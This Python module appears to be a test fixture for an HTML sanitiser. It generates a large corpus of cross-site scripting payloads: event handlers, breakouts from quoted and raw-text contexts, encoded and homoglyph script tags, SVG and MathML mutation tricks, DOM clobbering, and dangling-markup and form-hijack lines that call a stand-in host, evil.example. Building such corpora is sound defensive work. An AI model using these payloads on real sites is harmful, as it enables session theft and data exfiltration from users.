"""Markup that runs or fetches by itself, and the ways out of whatever the text stands in.

Whatever would run calls `canary`; whatever would fetch asks for `evil.example` or for `/leak`.
"""

from itertools import product

RUN = "canary(1)"
PICTURE = f"<img src=x onerror={RUN}>"

HANDLERS = [
    ("img", "src=/leak", "onerror"),
    ("image", "src=/leak", "onerror"),
    ("svg", "", "onload"),
    ("svg", "/", "onload"),
    ("body", "", "onload"),
    ("body", "", "onpageshow"),
    ("input", "autofocus", "onfocus"),
    ("textarea", "autofocus", "onfocus"),
    ("select", "autofocus", "onfocus"),
    ("button", "autofocus", "onfocus"),
    ("details", "open", "ontoggle"),
    ("video", "src=/leak", "onerror"),
    ("audio", "src=/leak", "onerror"),
    ("video", "poster=/leak", "onloadstart"),
    ("iframe", "src=/leak", "onload"),
    ("object", "data=/leak", "onerror"),
    ("embed", "src=/leak", "onload"),
    ("link", "rel=stylesheet href=/leak", "onerror"),
    ("script", "src=/leak", "onerror"),
    ("style", "", "onload"),
    ("marquee", "", "onstart"),
    ("p", "tabindex=0 autofocus", "onfocus"),
    ("div", "style=animation:x", "onanimationstart"),
    ("div", "contenteditable autofocus", "onfocusin"),
    ("div", "popover id=p", "onbeforetoggle"),
    ("form", "", "onformdata"),
    ("frameset", "", "onload"),
]
QUOTES = ["{0}={1}", '{0}="{1}"', "{0}='{1}'", "{0}\n=\n{1}"]


def handlers() -> list[str]:
    """Elements that run something by themselves, written in four manners."""
    made = [f"<{tag} {more} {quote.format(event, RUN)}>" for (tag, more, event), quote in product(HANDLERS, QUOTES[:2])]
    made += [
        f"<{tag} {more} {quote.format(event, RUN)}>" for (tag, more, event), quote in product(HANDLERS[:5], QUOTES)
    ]
    return made


OUT_OF = [
    '"',
    "'",
    '">',
    "'>",
    '"/>',
    "`>",
    "-->",
    "--!>",
    "]]>",
    "?>",
    "%>",
    "</p>",
    "</b></bdi>",
    "</li></ol>",
    "</time>",
    "</a>",
    "</button></form>",
    "</title>",
    "</textarea>",
    "</select>",
    "</style>",
    "</script>",
    "</noscript>",
    "</template>",
    "</iframe>",
    "</xmp>",
    "</head><body>",
    "</svg>",
    "</math>",
    "\\u0022>",
    "\\x22>",
    "&quot;>",
    "&#34;>",
    "&#x22;&gt;",
]


def breakouts() -> list[str]:
    """Out of whatever the text stands in, then a picture that cannot load; and into the tag itself."""
    into = [
        f"{quote} {event}={RUN} {more}"
        for quote in "\"'` "
        for event, more in (("onfocus", "autofocus x="), ("onmouseover", "style=x:y"))
    ]
    return [before + PICTURE for before in OUT_OF] + into


SCRIPTS = [
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script >{RUN}</script >",
    f"<script/x>{RUN}</script>",
    f"<script\n>{RUN}</script\n>",
    f"<<script>script>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</script>",
    f"<script type=module>{RUN}</script>",
    "<script src=//evil.example/x.js></script>",
    "<script src=https:evil.example></script>",
    '<script type=importmap>{"imports":{"x":"//evil.example"}}</script>',
    '<script type=speculationrules>{"prefetch":[{"urls":["//evil.example"]}]}</script>',
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&amp;lt;script&amp;gt;{RUN}",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"&#x3c;script&#x3e;{RUN}",
    f"&LT;script&GT;{RUN}",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"\\x3cscript\\x3e{RUN}\\x3c/script\\x3e",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"＜script＞{RUN}＜/script＞",
    f"﹤script﹥{RUN}",
    f"<ſcript>{RUN}</ſcript>",
    f"<scrıpt>{RUN}",
    f"';{RUN};//",
    f'";{RUN};//',
    f"\\';{RUN};//",
    f"*/{RUN}/*",
    f"'-{RUN}-'",
    f"${{{RUN}}}",
    f"`${{{RUN}}}`",
    f"<?xml-stylesheet href='//evil.example/x'?>{RUN}",
    f"<!DOCTYPE x [<!ENTITY y SYSTEM '//evil.example'>]>{RUN}",
]
FOREIGN = [
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href=data:,{RUN} />",
    f"<svg><script xlink:href=data:,{RUN} />",
    f"<svg><a href=javascript:{RUN}><text y=9>x</text></a></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><set attributeName=onload to={RUN}>",
    f"<svg><foreignObject><iframe srcdoc='{PICTURE}'>",
    "<svg><use href='//evil.example/x.svg#y'>",
    "<svg><image href=/leak>",
    "<svg><style>@import '/leak'</style></svg>",
    f"<math href=javascript:{RUN}>x</math>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>x",
    f"<math><mi xlink:href='data:text/html,{RUN}'>x",
    f"<math><annotation-xml encoding=text/html>{PICTURE}",
    f'<svg></p><style><a id="</style>{PICTURE}">',
    f"<svg><style><!--</style>{PICTURE}",
    f"<svg><![CDATA[{PICTURE}]]></svg>",
    f"<math><mtext><table><mglyph><style><!--</style>{PICTURE}",
    f"<math><mtext></form><form><mglyph><style></math>{PICTURE}",
    f'<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>{PICTURE}">',
    f'<noscript><p title="</noscript>{PICTURE}">',
    f"<template><script>{RUN}</script></template>",
    f"<template shadowrootmode=open>{PICTURE}</template>",
    f'<xmp><p title="</xmp>{PICTURE}">',
    f'<textarea><p title="</textarea>{PICTURE}">',
    f'<title><p title="</title>{PICTURE}">',
    f'<iframe srcdoc="&lt;img src=x onerror={RUN}&gt;">',
    f"<table><td background=/leak>{PICTURE}",
    f"<plaintext>{PICTURE}",
    f"<listing>&lt;img src=x onerror={RUN}&gt;</listing>",
    f"<select><option><style></option></select>{PICTURE}</style>",
    f"<a id=x><a id=x name=y href=javascript:{RUN}>",
    f"<!--{PICTURE}-->",
    f"<!-->{PICTURE}",
    f"<!--><!--->{PICTURE}",
    f"<![if IE]>{PICTURE}<![endif]>",
    f"<? {PICTURE} ?>",
    f"</ {PICTURE}>",
    f"<\u200bimg src=x onerror={RUN}>",
    f"<img/src=x/onerror={RUN}//",
    f"<img src=x onerror={RUN}",
    "<img src='//evil.example/?",
    "<a href='//evil.example/?",
    "<base href=//evil.example/>",
    "<base target=x><form id=say action=//evil.example>",
    "<input form=say name=words value=x>",
    "<button form=say formaction=//evil.example>Press</button>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'none'\">",
    "<meta http-equiv=Set-Cookie content=sessionid=x>",
    "<meta name=csrf content=stolen>",
    "<link rel=prefetch href=//evil.example>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<link rel=preconnect href=//evil.example>",
    "<iframe src=//evil.example></iframe>",
    "<portal src=//evil.example>",
    "<fencedframe></fencedframe>",
    "<keygen autofocus>",
    "<p id=part-bar>You are alone in this room</p>",
    "<p id=lost>Press here to sign in again</p>",
    "<li id=e-AAAAAAAAAAAAAAAAAAAAAA>forged</li>",
    "<div data-stream=/leak data-door=/leak>",
    "<form data-act=/leak action=/leave/ method=post>",
    "<img name=getElementById><img name=querySelector>",
]
